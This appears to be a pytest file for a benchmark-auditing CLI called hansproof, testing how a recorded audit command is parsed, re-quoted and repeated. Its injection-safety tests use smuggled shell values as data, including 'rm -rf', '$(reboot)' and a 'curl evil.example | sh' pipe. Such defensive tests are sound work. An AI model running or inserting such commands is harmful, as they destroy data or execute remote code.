"""What other commands need of the command line that made an audit."""

from __future__ import annotations

import shlex
from dataclasses import replace

import click
import pytest

from hansproof.cli import cli
from hansproof.report.audited_command import (
    INPUT_OPTIONS,
    OTHER_FLAGS,
    READING_FLAGS,
    READING_OPTIONS,
    AuditedCommand,
    parse_command,
    quote_command,
)

from ..support.report_page import EVIL
from ..support.report_sample import sample

AUDIT = sample(("dev",), 60, 30, 2)


def audit_options() -> list[click.Option]:
    command = cli.get_command(click.Context(cli), "audit")
    assert command is not None
    return [param for param in command.params if isinstance(param, click.Option)]


@pytest.mark.parametrize(
    ("command", "bench", "reading"),
    [
        ("hansproof audit toy:original -o toy", ("toy:original",), ()),
        ("hansproof audit a.jsonl b.jsonl", ("a.jsonl", "b.jsonl"), ()),
        ("hansproof audit -o out --force a.csv", ("a.csv",), ()),
        ("hansproof audit -oout a.csv --name='My quiz'", ("a.csv",), ("--name=My quiz",)),
        (
            "python -m hansproof audit 'my quiz.csv' --choices A --choices B --seeds 3 --no-header",
            ("my quiz.csv",),
            ("--choices", "A", "--choices", "B", "--no-header"),
        ),
    ],
)
def test_the_benchmark_and_how_it_was_read(
    command: str, bench: tuple[str, ...], reading: tuple[str, ...]
) -> None:
    parsed = parse_command(replace(AUDIT, command=command))
    assert (parsed.bench, parsed.reading) == (bench, reading)
    assert shlex.split(parsed.arguments()) == [*bench, *reading]


def test_inputs_may_have_several_values() -> None:
    command = "hansproof audit copa --predictions a.jsonl 'b c.jsonl' --ratings r.csv --by topic"
    parsed = parse_command(replace(AUDIT, command=command))
    assert parsed.bench == ("copa",)
    assert parsed.input_arguments("--predictions", "x") == "--predictions a.jsonl 'b c.jsonl'"
    assert parsed.input_arguments("--scans", "found.json") == "--scans found.json"


@pytest.mark.parametrize("command", ["", "hansproof report", "hansproof audit", "audit 'open"])
def test_without_a_command_the_benchmark_is_known_by_its_name(command: str) -> None:
    assert parse_command(replace(AUDIT, command=command)) == AuditedCommand(("paddock:dev",))
    two_splits = replace(sample(("dev", "test"), 60, 30, 2), command=command)
    assert parse_command(two_splits).bench == ("paddock",)


@pytest.mark.parametrize("evil", ["a; rm -rf x", "$(reboot)", "`reboot`", "a\nreboot", EVIL])
def test_nothing_in_it_becomes_another_command(evil: str) -> None:
    parsed = parse_command(replace(AUDIT, benchmark=evil, sizes={"all": 1}))
    assert shlex.split(parsed.arguments()) == [evil]


def test_every_option_of_the_command_is_known_by_its_kind() -> None:
    from hansproof.cli._options import INPUT_HELP

    for option in audit_options():
        is_flag = option.is_flag or option.count
        for name in (*option.opts, *option.secondary_opts):
            assert (name in (*READING_FLAGS, *OTHER_FLAGS)) == is_flag, name
    inputs = {f"--{name}" for name in INPUT_HELP}
    assert inputs == {*INPUT_OPTIONS}


def test_all_options_for_reading_files_are_kept() -> None:
    from hansproof.cli._options import item_options

    @click.command()
    @item_options
    def read(**flags: object) -> None: ...

    names = {name for param in read.params for name in (*param.opts, *param.secondary_opts)}
    assert names == {*READING_OPTIONS, *READING_FLAGS}


def test_models_of_texts_are_given_again() -> None:
    command = "hansproof audit copa --lm lm:a 'b c' --encoder e -o out --items i.csv"
    parsed = parse_command(replace(AUDIT, command=command))
    assert parsed.bench == ("copa",)
    assert parsed.repeat("--model", "bow") == (
        "hansproof audit copa --lm lm:a 'b c' --encoder e --model bow -o out"
    )


def test_the_output_folder_is_kept() -> None:
    audit = replace(AUDIT, command="hansproof audit quiz.csv -o spring --by topic")
    assert parse_command(audit).output == "spring"
    assert parse_command(replace(AUDIT, command="hansproof audit quiz.csv")).output == "audit"


@pytest.mark.parametrize(
    ("command", "bench", "output"),
    [
        ("hansproof audit -oout3 a.csv", ("a.csv",), "out3"),
        ("hansproof audit a.csv -vo out3", ("a.csv",), "out3"),
        ("hansproof audit -qv a.csv --output=out3", ("a.csv",), "out3"),
        ("hansproof audit -o out3 -- -odd.csv", ("./-odd.csv",), "out3"),
    ],
)
def test_short_options_and_odd_names(command: str, bench: tuple[str, ...], output: str) -> None:
    parsed = parse_command(replace(AUDIT, command=command))
    assert (parsed.bench, parsed.output) == (bench, output)


def test_values_may_look_like_options() -> None:
    command = "hansproof audit a.csv --list-separator - --name -x --predictions=p.jsonl"
    parsed = parse_command(replace(AUDIT, command=command))
    assert parsed.reading == ("--list-separator", "-", "--name", "-x")
    assert parsed.inputs == {"--predictions": ("p.jsonl",)}


def test_an_audit_is_repeated_with_an_option_changed_or_left_out() -> None:
    command = "hansproof audit a.csv --sample 60 --by topic --items old.csv --open -o out"
    parsed = parse_command(replace(AUDIT, command=command))
    assert parsed.repeat() == "hansproof audit a.csv --sample 60 --by topic -o out"
    assert parsed.repeat("--by", "x y") == "hansproof audit a.csv --sample 60 --by 'x y' -o out"
    assert parsed.repeat(without="--sample") == "hansproof audit a.csv --by topic -o out"


def test_the_command_that_is_shown_is_a_single_command() -> None:
    shown = quote_command(replace(AUDIT, command="hansproof audit 'my quiz.csv' -o out"))
    assert shown == "hansproof audit 'my quiz.csv' -o out"
    evil = quote_command(replace(AUDIT, command="hansproof audit toy; curl evil.example | sh"))
    assert shlex.split(evil) == ["hansproof", "audit", "toy;", "curl", "evil.example", "|", "sh"]
    assert "'toy;'" in evil
    assert quote_command(replace(AUDIT, command="hansproof audit toy\nreboot")) == ""
    assert quote_command(replace(AUDIT, command="hansproof audit 'open")) == ""
